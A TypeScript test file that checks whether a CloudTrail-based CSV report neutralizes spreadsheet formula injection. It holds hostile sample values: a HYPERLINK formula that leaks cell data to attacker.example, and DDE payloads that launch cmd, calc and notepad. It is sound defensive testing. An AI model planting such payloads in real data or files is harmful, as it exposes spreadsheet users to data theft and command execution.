// CSV formula injection (OWASP): hostile text from CloudTrail (model ids, principal ARNs, error
// codes) and from requesters (comments) goes through the real report pipeline; no cell of the
// CSV report may start a formula in a spreadsheet.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SYSTEM_PRINCIPAL } from "../../src/kernel/principal.js";
import { createInvocationEventsRepository } from "../../src/modules/invocations/invocation-events.repository.js";
import { normalizeRecord } from "../../src/modules/invocations/normalize.js";
import { buildTrailEvent } from "../../src/sandbox/trail.js";
import { startTestApp, type TestApp } from "../helpers/app.js";
import { requestReport } from "../helpers/reports.js";
import { unzip } from "../helpers/zip.js";

const ACCOUNT = "210987654321";
const HOSTILE_MODEL = `=HYPERLINK("https://attacker.example/?d="&A1,"Click")`;
const HOSTILE_ARN = "@SUM(1+1)*cmd|' /C calc'!A0";
const HOSTILE_ERROR = "+cmd|' /C notepad'!A0";
const HOSTILE_COMMENT = "-2+3+cmd|' /C calc'!A0";
const HOSTILE_REQUESTER = "\t=1+1";
const HOSTILE_APPROVER = "\r=1+1";

let t: TestApp;
let auditor: string;

/** RFC 4180 parser that keeps each cell's raw text, to check both the raw and the decoded forms. */
function parseCsv(text: string): { raw: string; value: string }[][] {
  const rows: { raw: string; value: string }[][] = [];
  let row: { raw: string; value: string }[] = [];
  let i = 0;
  while (i < text.length) {
    const start = i;
    let value = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else {
          value += text[i++];
        }
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") value += text[i++];
    }
    row.push({ raw: text.slice(start, i), value });
    if (text[i] === ",") i++;
    else {
      expect(text.slice(i, i + 2)).toBe("\r\n");
      i += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

beforeAll(async () => {
  t = await startTestApp();
  auditor = await t.keyFor("auditor");
  const at = new Date(Date.now() - 60_000);
  const { record } = buildTrailEvent({
    eventTime: at,
    account: ACCOUNT,
    region: "us-east-1",
    modelId: HOSTILE_MODEL,
    identity: { arn: HOSTILE_ARN, accessKeyId: "ASIAEXAMPLE1" },
    requestId: "req-hostile",
    eventId: "00000000-0000-4000-a000-000000000001",
    errorCode: HOSTILE_ERROR,
  });
  // An IAM user (no session issuer), so the hostile ARN is the principal the report shows.
  const row = normalizeRecord({
    ...record,
    userIdentity: { type: "IAMUser", arn: HOSTILE_ARN, accountId: ACCOUNT, accessKeyId: "AKIAEXAMPLE1" },
  });
  expect(row).toBeDefined();
  expect(await createInvocationEventsRepository(t.db).write(row ? [row] : [])).toBe(1);
  await t.db.transaction(async (tx) => {
    await t.services.audit.record(
      { principal: SYSTEM_PRINCIPAL, requestId: "test" },
      {
        action: "access_request.approve",
        targetType: "access_request",
        targetId: "ar-hostile",
        after: {
          requestId: "ar-hostile",
          accountIds: [ACCOUNT],
          regions: ["us-east-1"],
          model: HOSTILE_MODEL,
          requesterId: HOSTILE_REQUESTER,
          decision: "approve",
          approverId: HOSTILE_APPROVER,
          comment: HOSTILE_COMMENT,
        },
      },
      tx,
    );
  });
});
afterAll(async () => t?.close());

describe("CSV report", () => {
  it("neutralizes cells that would start a formula: a single quote before them, and quoted", async () => {
    const { meta, data } = await requestReport(t, auditor, {
      from: new Date(Date.now() - 3_600_000).toISOString(),
      to: new Date(Date.now() + 3_600_000).toISOString(),
      scope: { kind: "organization" },
      format: "csv",
      includeEvents: true,
    });
    expect(meta.status).toBe("ready");
    const files = await unzip(data);
    const rows = files.flatMap((f) => parseCsv(f.bytes.toString("utf8")));
    const cells = rows.flat();

    // Every hostile value reached the report, each neutralized.
    for (const hostile of [
      HOSTILE_MODEL,
      HOSTILE_ARN,
      HOSTILE_ERROR,
      HOSTILE_COMMENT,
      HOSTILE_REQUESTER,
      HOSTILE_APPROVER,
    ]) {
      expect(
        cells.some((c) => c.value === `'${hostile}`),
        `${JSON.stringify(hostile)} in the report`,
      ).toBe(true);
      expect(cells.some((c) => c.value === hostile)).toBe(false);
    }
    expect(files.map((f) => f.path)).toContain("invocations.csv");
    expect(files.map((f) => f.path)).toContain("access_requests.csv");
    // No cell, decoded as a spreadsheet does, starts a formula; those with a quote are quoted.
    for (const c of cells) {
      expect(c.value, c.raw).not.toMatch(/^[=+\-@\t\r]/);
      if (c.value.startsWith("'")) expect(c.raw.startsWith(`"'`), c.raw).toBe(true);
    }
  });
});
